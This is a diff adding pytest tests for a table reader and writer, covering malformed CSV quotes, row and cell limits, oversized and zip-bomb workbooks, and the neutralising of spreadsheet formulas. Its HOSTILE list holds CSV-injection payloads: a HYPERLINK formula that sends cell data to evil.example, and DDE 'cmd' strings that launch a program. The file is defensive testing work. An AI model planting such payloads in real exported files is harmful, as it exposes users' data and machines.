@@ -1,0 +1,109 @@
+"""Hostile tables: unclosed quotes, oversized files and cells, spreadsheet formulas (issue 15)."""
+import csv
+import tracemalloc
+import zipfile
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from planalign.corpora.tables import Limits, TableError, TableTooLarge, is_formula_like, read_table, write_table
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
+           "\tTAB=1", "\rCR=1"]
+
+
+def test_unclosed_quote_is_refused_with_its_line(tmp_path):
+    path = tmp_path / "q.csv"
+    path.write_text('id,name\n1,ok\n2,"never closed\n3,merged\n4,merged too\n', encoding="utf-8")
+    with pytest.raises(TableError, match=r"q\.csv: line 3: a quoted field .* never closed"):
+        read_table(path)
+
+
+def test_quoted_newlines_still_read(tmp_path):
+    path = tmp_path / "q.csv"
+    path.write_text('id,name\n1,"two\nlines"\n2,plain\n', encoding="utf-8")
+    assert [r["name"] for r in read_table(path).rows] == ["two\nlines", "plain"]
+
+
+def test_messages_use_the_given_name_not_the_path(tmp_path):
+    path = tmp_path / "upload.csv"
+    path.write_text('id,name\n1,"x\n', encoding="utf-8")
+    with pytest.raises(TableError) as raised:
+        read_table(path, name="ของฉัน.csv")
+    assert "ของฉัน.csv" in str(raised.value) and str(tmp_path) not in str(raised.value)
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".xlsx"])
+def test_row_limit(tmp_path, suffix):
+    path = tmp_path / f"rows{suffix}"
+    write_table(path, ["id", "text"], [{"id": str(i), "text": f"ข้อความ {i}"} for i in range(30)])
+    assert len(read_table(path, limits=Limits(max_rows=30)).rows) == 30
+    with pytest.raises(TableTooLarge, match="more than 29 data rows"):
+        read_table(path, limits=Limits(max_rows=29))
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".xlsx"])
+def test_cell_limit_names_row_and_column(tmp_path, suffix):
+    path = tmp_path / f"cells{suffix}"
+    write_table(path, ["id", "name"], [{"id": "1", "name": "สั้น"}, {"id": "2", "name": "ก" * 5000}])
+    with pytest.raises(TableTooLarge, match=r"row 3, column 'name': 5,000 characters, over the limit of 1,000"):
+        read_table(path, limits=Limits(max_cell_chars=1000))
+
+
+def test_large_workbook_is_refused_at_the_limit_without_loading_it(tmp_path):
+    """The probe's 300,000-row workbook grew the server past 2 GB; reading now stops at the row limit.
+
+    (The 300k-row upload itself, against a running server with its memory measured, is in ``make reliability``.)
+    """
+    path = tmp_path / "big.xlsx"
+    workbook = Workbook(write_only=True)
+    sheet = workbook.create_sheet()
+    sheet.append(["id", "text"])
+    for i in range(40_000):
+        sheet.append([i, "x"])
+    workbook.save(path)
+    tracemalloc.start()
+    with pytest.raises(TableTooLarge, match="more than 1,000 data rows"):
+        read_table(path, limits=Limits(max_rows=1_000))
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert peak < 20e6, peak
+
+
+def test_zip_bomb_workbook_is_refused(tmp_path, monkeypatch):
+    import planalign.corpora.tables as tables
+
+    path = tmp_path / "bomb.xlsx"
+    write_table(path, ["id"], [{"id": "1"}])
+    with zipfile.ZipFile(path, "a") as archive:
+        archive.writestr("xl/padding.xml", b" " * 5_000_000, compress_type=zipfile.ZIP_DEFLATED)
+    monkeypatch.setattr(tables, "MIN_INFLATION_CHECK", 1_000_000)
+    with pytest.raises(TableTooLarge, match="decompresses"):
+        read_table(path)
+
+
+def test_formulas_are_neutralised_in_csv(tmp_path):
+    path = tmp_path / "out.csv"
+    write_table(path, ["text", "budget", "signed"], [{"text": t, "budget": 1500000.0, "signed": "-20"} for t in HOSTILE])
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert [r[0] for r in rows[1:]] == [f"'{t}" for t in HOSTILE]
+    assert {r[1] for r in rows[1:]} == {"1500000.0"} and {r[2] for r in rows[1:]} == {"-20"}  # numbers untouched
+
+
+def test_formulas_are_text_cells_in_xlsx_and_numbers_stay_numbers(tmp_path):
+    path = tmp_path / "out.xlsx"
+    write_table(path, ["text", "budget"], [{"text": t, "budget": 1500000.0} for t in HOSTILE] + [{"text": "ปกติ", "budget": -3}])
+    sheet = load_workbook(path).active
+    for row in list(sheet.iter_rows(min_row=2))[: len(HOSTILE)]:
+        assert row[0].data_type == "s" and row[0].quotePrefix and row[0].value.lstrip("\t")[:1] in "=+-@CT"
+        assert row[1].data_type == "n" and row[1].value == 1500000
+    last = next(iter(sheet.iter_rows(min_row=len(HOSTILE) + 2)))
+    assert last[0].value == "ปกติ" and not last[0].quotePrefix and last[1].value == -3
+    with zipfile.ZipFile(path) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+
+
+def test_formula_detection():
+    assert all(is_formula_like(t) for t in HOSTILE)
+    assert not any(is_formula_like(t) for t in ("-20", "+66812345678", "1,500,000", "-1.5e3", "โครงการ", "", 5, None))
